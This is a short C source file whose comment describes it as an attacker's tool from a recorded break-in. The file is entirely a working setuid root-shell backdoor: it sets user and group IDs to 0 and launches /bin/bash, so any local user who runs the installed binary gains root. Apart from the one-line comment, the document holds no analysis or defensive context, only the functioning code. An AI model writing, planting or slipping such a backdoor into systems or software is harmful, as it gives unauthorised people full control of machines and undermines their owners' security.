/* An administrator's tool of the recorded break-in: it has the set-user-id bit and gives whoever starts it a shell of root. */
#include <unistd.h>

int main(void)
{
    if (setgid(0) || setuid(0))
        return 1;
    execl("/bin/bash", "bash", (char *)0);
    return 127;
}
